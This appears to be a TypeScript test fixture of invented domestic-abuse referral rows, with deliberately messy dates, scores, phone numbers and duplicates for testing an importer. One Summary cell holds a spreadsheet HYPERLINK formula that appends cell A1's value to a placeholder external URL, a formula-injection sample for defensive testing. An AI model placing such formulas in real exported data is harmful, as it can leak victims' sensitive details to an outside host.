import type { RawRow } from './raw-row.js';

/** Invented rows with the habits of real agency sheets. Every name, number and address here is made up. */
// prettier-ignore
const COLUMNS = [
  'Ref', 'Date received', 'Time received', 'Referring agency', 'Referrer', 'Forename', 'Surname', 'Known as', 'DOB',
  'Gender', 'Ethnicity', 'Preferred language', 'Safe phone', 'OK to call', 'OK to leave message', 'Postcode',
  'Consent to referral', 'Checklist', 'Score', 'Police call-outs 12m', 'Abuse types', 'Perpetrator forename',
  'Perpetrator surname', 'Perpetrator DOB', 'Relationship', 'Living together', 'Children', 'Summary',
  'Service requested', 'Crime number',
] as const;
type Column = (typeof COLUMNS)[number];

// prettier-ignore
const PLAIN: Readonly<Record<Column, string>> = {
  Ref: 'X1', 'Date received': '11/08/2026', 'Time received': '14:05', 'Referring agency': 'Police - PPN',
  Referrer: 'PC 0042', Forename: 'Tirion', Surname: 'Cadwallader', 'Known as': '', DOB: '09/03/1988', Gender: 'F',
  Ethnicity: 'White Welsh', 'Preferred language': 'English', 'Safe phone': '07700 900001', 'OK to call': 'Y',
  'OK to leave message': 'N', Postcode: 'ZZ1 1ZZ', 'Consent to referral': 'Y', Checklist: 'SafeLives Dash 24',
  Score: '11', 'Police call-outs 12m': '2', 'Abuse types': 'Physical; Emotional', 'Perpetrator forename': 'Marlowe',
  'Perpetrator surname': 'Quill', 'Perpetrator DOB': '', Relationship: 'ex-partner', 'Living together': 'N',
  Children: '', Summary: 'Shouting heard by a neighbour.', 'Service requested': 'IDVA', 'Crime number': '',
};

export const FIXTURE_COLUMNS: readonly string[] = COLUMNS;

/** One plain row with some cells written differently. */
export function aRow(cells: Partial<Record<Column, string>> = {}): RawRow {
  return { ...PLAIN, ...cells };
}

export function aBlankRow(): RawRow {
  return Object.fromEntries(COLUMNS.map((column) => [column, column === 'Summary' ? '  ' : '']));
}

/** A row that ends early: the sheet had nothing more to say, or a line broke in the middle. */
export function aShortRow(): RawRow {
  return Object.fromEntries(COLUMNS.slice(0, 6).map((column) => [column, PLAIN[column]]));
}

const NAMES = ['Tirion', 'Osgar', 'Maren', 'Idony', 'Perrin', 'Sabeen', 'Yewande', 'Katya', 'Brychan', 'Anwyl'];
const FAMILIES = ['Cadwallader', 'Threlkeld', 'Abernethy', 'Oyelaran', 'Wisniewska'];

function someone(number: number): Partial<Record<Column, string>> {
  const forename = NAMES[number % NAMES.length] ?? '';
  const surname = FAMILIES[Math.floor(number / NAMES.length) % FAMILIES.length] ?? '';
  const day = String((number % 27) + 1).padStart(2, '0');
  return { Ref: `X${number + 1}`, Forename: forename, Surname: surname, DOB: `${day}/03/19${60 + number}` };
}

const UNTIDY: ReadonlyArray<Partial<Record<Column, string>>> = [
  {},
  { 'Date received': '2026-09-08', 'Time received': '' },
  { 'Date received': '20.08.26', 'Time received': '1pm' },
  { 'Date received': '10 Sep 2026', DOB: '2 Jul 1995' },
  { 'Date received': '' },
  { DOB: '14/03/2031' },
  { DOB: '31/02/1990' },
  { DOB: '25.04.04' },
  { DOB: '' },
  { Gender: '', Ethnicity: '', 'Safe phone': '', 'Preferred language': '', 'OK to call': '' },
  { 'Safe phone': "07700 900989 (mum's)" },
  { 'Safe phone': '00447700900213' },
  { 'Safe phone': '+44 7700 900684' },
  { 'Safe phone': ' 07700 900624 ' },
  { Surname: '' },
  { Score: '26' },
  { Score: '-2' },
  { Checklist: '', Score: '12' },
  { Checklist: '', Score: '' },
  { Checklist: 'DASH 2009 (27)', Score: '26' },
  { Checklist: 'DARA', Score: 'High' },
  { Checklist: 'DARA', Score: '14' },
  { Checklist: 'DARA', Score: 'many' },
  { 'Police call-outs 12m': 'many' },
  { 'Preferred language': 'cy' },
  { 'Preferred language': 'Urdu (interpreter)' },
  { Ethnicity: 'W1', Gender: 'Non-binary' },
  { Postcode: 'zz11zz' },
  { 'Referring agency': 'A&E' },
  { 'Referring agency': '' },
  { 'Service requested': 'IDVA + childrens' },
  { Children: 'Odo Threlkeld 5/6/14 / Petra ap Brychan 2020-01-02 / Una Threlkeld 7 Jun 2017' },
  { Children: '2 children' },
  { Summary: '=HYPERLINK("http://example.invalid/?x="&A1,"open")' },
  { 'Perpetrator forename': '', 'Perpetrator surname': '', Relationship: '' },
  { 'Crime number': 'CN/0042' },
  { 'Abuse types': 'Physical; Moonshine' },
];

/** About forty rows: each habit once, two of one person under two spellings, a gap, and a line that broke off. */
export const INVENTED_ROWS: readonly RawRow[] = [
  ...UNTIDY.map((cells, index) => aRow({ ...someone(index), ...cells })),
  aRow({ Ref: 'X90', Forename: 'Rhianwen', Surname: 'Mostyn', DOB: '27/09/1987' }),
  aBlankRow(),
  aRow({ Ref: 'X91', Forename: 'Rhianwyn', Surname: 'MOSTIN ', DOB: '27.09.87' }),
  aShortRow(),
];
